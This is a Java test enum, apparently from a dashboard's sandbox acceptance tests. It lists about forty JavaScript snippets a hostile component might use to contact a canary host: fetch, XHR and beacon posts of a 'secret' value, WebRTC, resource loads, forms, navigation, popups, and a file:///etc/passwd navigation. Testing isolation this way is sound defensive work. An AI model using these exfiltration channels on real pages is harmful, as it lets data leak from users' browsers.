package org.metalayer.acceptance.dashboard;

/** What a hostile component tries, as script in its own page; {@code HERE} is the canary. */
enum Attack {
    FETCH("fetch('http://HERE/', {mode: 'no-cors'}).catch(() => {})"),
    XHR("const x = new XMLHttpRequest(); x.open('POST', 'http://HERE/'); x.send('secret')"),
    WEB_SOCKET("new WebSocket('ws://HERE/')"),
    EVENT_SOURCE("new EventSource('http://HERE/')"),
    BEACON("navigator.sendBeacon('http://HERE/', 'secret')"),
    WEB_TRANSPORT("new WebTransport('https://HERE/').ready.catch(() => {})"),
    WEB_RTC(
            """
            const p = new RTCPeerConnection({iceServers: [{urls: 'stun:HERE'},
                {urls: 'turn:HERE?transport=tcp', username: 'secret', credential: 'x'}]});
            p.createDataChannel('x');
            p.createOffer().then(it => p.setLocalDescription(it)).catch(() => {})\
            """),
    WEB_RTC_IN_A_FRAME(
            """
            const i = document.createElement('iframe'); document.body.append(i);
            const p = new i.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:HERE'}]});
            p.createDataChannel('x');
            p.createOffer().then(it => p.setLocalDescription(it)).catch(() => {})\
            """),
    IMAGE("new Image().src = 'http://HERE/'"),
    AUDIO("new Audio('http://HERE/').load()"),
    FONT("new FontFace('x', 'url(http://HERE/)').load().catch(() => {})"),
    STYLE("document.body.style.backgroundImage = 'url(http://HERE/)'"),
    SHEET("document.head.innerHTML += '<link rel=stylesheet href=http://HERE/>'"),
    IMPORTED_SHEET(
            """
            const s = new CSSStyleSheet(); s.replaceSync("body {background: url('http://HERE/')}");
            document.adoptedStyleSheets = [s]\
            """),
    SCRIPT(
            "document.body.append(Object.assign(document.createElement('script'), {src:"
                    + " 'http://HERE/'}))"),
    MODULE("import('http://HERE/').catch(() => {})"),
    FRAME("document.body.insertAdjacentHTML('beforeend', '<iframe src=http://HERE/></iframe>')"),
    FRAME_IN_FRAME(
            """
            document.body.insertAdjacentHTML('beforeend', "<iframe srcdoc='<img src=http://HERE/>"
                + "<meta http-equiv=refresh content=0;url=http://HERE/>'></iframe>")\
            """),
    OBJECT(
            "document.body.insertAdjacentHTML('beforeend', '<object"
                    + " data=http://HERE/></object><embed src=http://HERE/>')"),
    HINTS(
            """
            for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'preload',
                'modulepreload', 'icon', 'manifest'])
              document.head.append(Object.assign(document.createElement('link'),
                  {rel, as: 'script', href: 'http://HERE/'}))\
            """),
    SPECULATION(
            """
            document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules',
                textContent: '{"prefetch": [{"source": "list", "urls": ["http://HERE/"]}]}'}))\
            """),
    FORM(
            """
            document.body.insertAdjacentHTML('beforeend', '<form method=post action=http://HERE/></form>');
            document.forms[0].submit()\
            """),
    PING(
            """
            const a = Object.assign(document.createElement('a'), {href: '#', ping: 'http://HERE/'});
            document.body.append(a); a.click()\
            """),
    DOWNLOAD(
            """
            const a = Object.assign(document.createElement('a'), {href: 'http://HERE/', download: 'x'});
            document.body.append(a); a.click()\
            """),
    POPUP("window.open('http://HERE/')"),
    BLANK(
            """
            const a = Object.assign(document.createElement('a'), {href: 'http://HERE/', target: '_blank'});
            document.body.append(a); a.click()\
            """),
    TOP("try { top.location = 'http://HERE/' } catch (refused) {}"),
    TOP_LINK(
            """
            const a = Object.assign(document.createElement('a'), {href: 'http://HERE/', target: '_top'});
            document.body.append(a); a.click()\
            """),
    ITSELF("location = 'http://HERE/?secret'"),
    REFRESH("document.head.innerHTML += '<meta http-equiv=refresh content=0;url=http://HERE/>'"),
    SHARED_WORKER("try { new SharedWorker('/work.js') } catch (refused) {}"),
    WORKER("try { new Worker('/work.js') } catch (refused) {}"),
    MAIL("location = 'mailto:a@b.example'"),
    FILE("location = 'file:///etc/passwd'"),
    DATA_PAGE("location = 'data:text/html,<img src=http://HERE/>'"),
    SCRIPT_ADDRESS("location = \"javascript:fetch('http://HERE/')\""),
    DIALOG("alert(1); confirm(1); prompt(1); print()");

    private final String script;

    Attack(String script) {
        this.script = script;
    }

    /** The script against a server at this host and port. */
    String at(String canary) {
        return "() => { try {" + script.replace("HERE", canary) + "} catch (refused) {} }";
    }
}
